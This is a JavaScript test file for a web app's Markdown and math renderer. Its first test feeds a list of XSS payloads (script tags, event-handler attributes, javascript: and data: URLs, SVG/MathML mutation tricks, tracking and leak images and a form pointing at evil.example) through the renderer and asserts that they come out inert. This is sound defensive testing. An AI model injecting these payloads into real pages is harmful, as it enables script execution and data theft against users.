import { enhance, extractMath, renderMarkdown } from '/js/markdown.js';
import { eq, ok, sleep, test } from './harness.js';

const render = (md) => {
  const box = document.createElement('div');
  box.append(renderMarkdown(md).fragment);
  document.getElementById('sandbox').append(box); // connected: an <img onerror> would fire, a <script> would run
  return box;
};

// Payloads that each try to run `window.__xss = ...` or load something; the rendering must be inert.
const XSS = [
  '<script>window.__xss = "script"</script>',
  '<img src=x onerror="window.__xss=\'img\'">',
  '<img src="https://evil.example/leak?q=secret" alt="pixel">',
  '[click](javascript:window.__xss=\'link\')',
  '[click](JaVaScRiPt:window.__xss=1)',
  '<a href="javascript:window.__xss=1">a</a>',
  '<iframe src="javascript:window.__xss=1"></iframe>',
  '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
  '<svg onload="window.__xss=\'svg\'"><script>window.__xss=2</script></svg>',
  '<svg><animate onbegin="window.__xss=3" attributeName="x" dur="1s"/></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.__xss=4">',
  '<p style="position:fixed;top:0;left:0;width:100%;height:100%;background:red">cover</p>',
  '<div id="messages" class="composer" name="x">clobber</div>',
  '<form action="https://evil.example"><input name="q"><button>go</button></form>',
  '<object data="data:text/html,<script>parent.__xss=1</script>"></object><embed src="x">',
  '<details open ontoggle="window.__xss=5">d</details>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>',
  '<video><source onerror="window.__xss=6"></video><audio src=x onerror="window.__xss=7"></audio>',
  '<link rel="stylesheet" href="https://evil.example/x.css"><meta http-equiv="refresh" content="0;url=https://evil.example">',
  '```html\n<script>window.__xss=8</script>\n```\n\nand `<img src=x onerror=window.__xss=9>`',
  '![alt text](https://evil.example/track.png)',
  '<base href="https://evil.example/">',
  '![tracker](data:image/gif;base64,R0lGODlhAQABAAAAACw=) and ![rel](/api/tags)',
  '[rel](/api/delete) <https://ok.example/a> <javascript:alert(1)>',
];

test('markdown: XSS payloads render inert (no script, handler, style, frame, form, remote image)', async () => {
  delete window.__xss;
  const boxes = XSS.map((p) => render(p));
  await sleep(300); // time for an onerror / onload to fire, were one left
  eq(window.__xss, undefined, 'nothing ran');
  for (const [i, box] of boxes.entries()) {
    const what = `payload ${i}: ${XSS[i]}`;
    ok(!box.querySelector('script,iframe,object,embed,svg,math,style,form,input,button:not(.copy-code),link,meta,base,video,audio,source,img'), `${what}: a forbidden element survived: ${box.innerHTML}`);
    for (const e of box.querySelectorAll('*')) {
      for (const a of e.attributes) {
        ok(!/^on/i.test(a.name), `${what}: handler attribute ${a.name}`);
        ok(a.name !== 'style' && a.name !== 'id' && a.name !== 'name' && a.name !== 'srcdoc', `${what}: attribute ${a.name}`);
        if (a.name === 'class') ok(/^(code-block|code-head|code-lang|copy-code|image-link|math( math-display)?)$/.test(a.value), `${what}: class ${a.value}`);
      }
    }
    for (const a of box.querySelectorAll('a')) {
      ok(/^(https?:|mailto:)/i.test(a.getAttribute('href')), `${what}: href ${a.getAttribute('href')}`);
      eq(a.getAttribute('rel'), 'noopener noreferrer', `${what}: rel`);
    }
  }
  const code = boxes[19];
  ok(code.querySelector('pre code').textContent.includes('<script>window.__xss=8</script>'), 'code blocks show HTML as text');
  ok(code.querySelector('p code').textContent.includes('onerror'), 'code spans show HTML as text');
  const img = boxes[20].querySelector('a.image-link');
  ok(img && img.textContent === '[image: alt text]' && img.getAttribute('href') === 'https://evil.example/track.png', 'a remote image becomes a link, not a fetch');
  ok(boxes[0].textContent.includes('<script>window.__xss = "script"</script>'), 'raw HTML is shown as text');
  ok(boxes[2].textContent.includes('<img src="https://evil.example/leak?q=secret"'), 'an <img> tag is shown as text');
  eq(boxes[22].textContent.trim(), '[image: tracker] and [image: rel]', 'data: and relative images: alt text only');
  eq([...boxes[23].querySelectorAll('a')].map((a) => a.getAttribute('href')), ['https://ok.example/a'], 'relative and javascript: links become text');
  for (const b of boxes) b.remove();
});

test('markdown: ordinary Markdown renders (emphasis, lists, tables, links open in a new tab)', () => {
  const box = render('# Title\n\n**bold** and *it*\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n[site](https://example.org)');
  ok(box.querySelector('h1')?.textContent === 'Title', 'heading');
  ok(box.querySelector('strong')?.textContent === 'bold', 'bold');
  eq(box.querySelectorAll('li').length, 2, 'list items');
  ok(box.querySelector('table td'), 'table');
  const a = box.querySelector('a');
  eq([a.getAttribute('href'), a.getAttribute('target'), a.getAttribute('rel')], ['https://example.org', '_blank', 'noopener noreferrer']);
  box.remove();
});

test('markdown: code blocks get a language label and a copy button', () => {
  const r = renderMarkdown('```python\nprint(1)\n```\n\n```\nplain\n```');
  ok(r.hasCode, 'hasCode');
  const blocks = r.fragment.querySelectorAll('.code-block');
  eq(blocks.length, 2);
  eq(blocks[0].querySelector('.code-lang').textContent, 'python');
  eq(blocks[0].querySelector('code').dataset.lang, 'python');
  eq(blocks[1].querySelector('.code-lang').textContent, 'code');
  ok(blocks[0].querySelector('button.copy-code'), 'copy button');
  eq(renderMarkdown('no code here').hasCode, false);
});

test('math: extraction finds $..$, $$..$$, \\(..\\), \\[..\\]; prices and code are left alone', () => {
  const m = (s) => extractMath(s).math;
  eq(m('area $\\pi r^2$ here'), [{ tex: '\\pi r^2', display: false }]);
  eq(m('$$\nE=mc^2\n$$'), [{ tex: 'E=mc^2', display: true }]);
  eq(m('\\(a+b\\) and \\[x^2\\]'), [{ tex: 'a+b', display: false }, { tex: 'x^2', display: true }]);
  eq(m('It costs $5 and $10 today'), [], 'prices');
  eq(m('from $5 to $ 6'), []);
  eq(m('`$x$` and ``$y$`` stay code'), []);
  eq(m('```\n$$not math$$\n```\nbut $z$ is'), [{ tex: 'z', display: false }]);
  eq(m('~~~\n$a$\n~~~'), []);
  eq(m('escaped \\$x$ is not math'), []);
  eq(m('unclosed $$ display'), []);
  eq(m('a $b\nc$ d'), [], 'inline math stays on one line');
});

test('math: placeholders survive Markdown and become spans; the source text shows until KaTeX renders', () => {
  const r = renderMarkdown('Euler: $e^{i\\pi}+1=0$ and **bold**\n\n$$\\int_0^1 x\\,dx$$');
  ok(r.hasMath, 'hasMath');
  const spans = r.fragment.querySelectorAll('span.math');
  eq(spans.length, 2);
  eq(spans[0].dataset.tex, 'e^{i\\pi}+1=0');
  eq(spans[1].dataset.display, '1');
  ok(!r.fragment.textContent.includes('\uE000'), 'no placeholder left');
});

test('math: a formula with Markdown-looking characters is not mangled (a_1 * b_2)', () => {
  const r = renderMarkdown('$a_1 * b_2 * c_3$');
  eq(r.fragment.querySelector('span.math').dataset.tex, 'a_1 * b_2 * c_3');
});

test('enhance: KaTeX renders math into DOM nodes (lazily loaded), highlight.js colours code', async () => {
  const box = render('$x^2$ and\n\n```js\nconst a = 1;\n```');
  ok(!globalThis.katex, 'KaTeX is not loaded before math needs it');
  await enhance(box);
  ok(globalThis.katex, 'KaTeX loaded');
  ok(box.querySelector('span.math .katex'), 'KaTeX output');
  ok(globalThis.hljs, 'highlight.js loaded');
  ok(box.querySelector('code.hljs span'), 'highlighted tokens');
  box.remove();
});
